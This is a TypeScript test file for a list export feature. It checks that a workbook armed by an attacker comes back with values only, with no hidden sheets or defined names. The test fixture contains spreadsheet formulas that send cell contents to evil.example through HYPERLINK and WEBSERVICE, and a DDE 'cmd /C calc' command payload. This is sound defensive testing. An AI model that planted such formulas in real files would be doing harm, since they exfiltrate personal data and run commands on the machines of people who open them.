/**
 * Exports carry no active content (issue 19, item 4): a list received with formula cells (a
 * HYPERLINK that carries cells to an outside address, WEBSERVICE, a DDE call), a hidden sheet and
 * defined names is returned with values only. Read back with exceljs, and checked in the XML itself.
 */
import ExcelJS from 'exceljs';
import { unzipSync } from 'fflate';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Db } from '../../src/main/db/open-database';
import { readLetterhead, saveLetterhead } from '../../src/main/documents/documents';
import { exportList } from '../../src/main/lists/export-list';
import { tempDatabase } from '../helpers/db';
import { PEOPLE } from '../helpers/extract-files';
import { LIST_HEADER, NOW, importAndCheck, seedRegistry } from '../helpers/lists';

let db: Db;
let cleanup: () => void;
beforeEach(() => ({ db, cleanup } = tempDatabase()));
afterEach(() => cleanup());

/** A list whose cells an attacker filled with formulas that would read the result columns. */
async function armedList(): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook();
  const sheet = wb.addWorksheet('Danh sách');
  sheet.addRow(['DANH SÁCH ĐĂNG KÝ']);
  sheet.addRow([...LIST_HEADER, 'Ghi chú']);
  sheet.addRow([1, 'Ma Văn Tường', '06/08/1990', 'Nam', '008090012345', 'Việt Nam', 'Thôn Ba 1']);
  sheet.addRow([2, 'Hà Thị Hòa', '01/01/1995', 'Nữ', '', 'Việt Nam', 'Thôn Ba 2']);
  // Columns I…P will hold the registry's answers: the formulas read them.
  sheet.getCell('H3').value = { formula: 'HYPERLINK("http://evil.example/?d="&J3&K3&L3,"Xem")', result: 'Xem' };
  sheet.getCell('H4').value = { formula: 'WEBSERVICE("http://evil.example/?d="&J4&K4)' };
  sheet.getCell('A6').value = { formula: "cmd|' /C calc'!A0", result: 0 };
  sheet.getCell('B6').value = { formula: 'Bí_mật!A1', result: 'bí mật' };
  const hidden = wb.addWorksheet('Bí_mật', { state: 'hidden' });
  hidden.addRow(['Số định danh thu thập', '=J3']);
  const veryHidden = wb.addWorksheet('Ẩn_hẳn', { state: 'veryHidden' });
  veryHidden.addRow(['không ai thấy']);
  wb.definedNames.add("'Danh sách'!$J$3:$P$4", 'KetQua');
  wb.definedNames.add("'Bí_mật'!$A$1", 'BiMat');
  return new Uint8Array(await wb.xlsx.writeBuffer());
}

describe('the returned workbook', () => {
  it('keeps values, never formulas; no hidden sheet, no defined name, no external link', async () => {
    await seedRegistry(db, PEOPLE);
    const { imported } = await importAndCheck(db, await armedList(), 'ds.xlsx');
    saveLetterhead(db, { ...readLetterhead(db), signerName: 'Hoàng Văn Chủ' }, new Date());
    const exported = await exportList(db, imported.listId, 'vi', NOW, { by: null, partial: true });
    if (!exported.ok) throw new Error(exported.problem.key);
    const data = exported.value.files[0]!.data;

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(data) as unknown as ArrayBuffer);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Danh sách']);
    expect(workbook.worksheets.every((s) => s.state === 'visible')).toBe(true);
    const sheet = workbook.worksheets[0]!;
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type, cell.address).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.type, cell.address).not.toBe(ExcelJS.ValueType.Hyperlink);
      }),
    );
    // A formula becomes its cached value, or its text (inert).
    expect(sheet.getCell('H3').value).toBe('Xem');
    expect(String(sheet.getCell('H4').value)).toMatch(/^'=WEBSERVICE/);
    expect(sheet.getCell('B6').value).toBe('bí mật');
    // The registry's answers are there, beside the list.
    expect(JSON.stringify(sheet.getRow(3).values)).toContain('008090012345');

    const parts = unzipSync(data);
    const names = Object.keys(parts);
    expect(names.filter((n) => /externalLink|connections|vbaProject|queryTable/i.test(n))).toEqual([]);
    for (const name of names.filter((n) => /\.(xml|rels)$/.test(n))) {
      const xml = new TextDecoder().decode(parts[name]);
      expect(xml, name).not.toMatch(/<f[\s>]/);
      expect(xml, name).not.toMatch(/<definedName[\s>]/);
      expect(xml, name).not.toMatch(/state="(very)?[hH]idden"/);
      // The address survives only as inert text (the formula without a cached value), never as a link.
      if (name !== 'xl/sharedStrings.xml') expect(xml, name).not.toMatch(/evil\.example/);
    }
  });
});
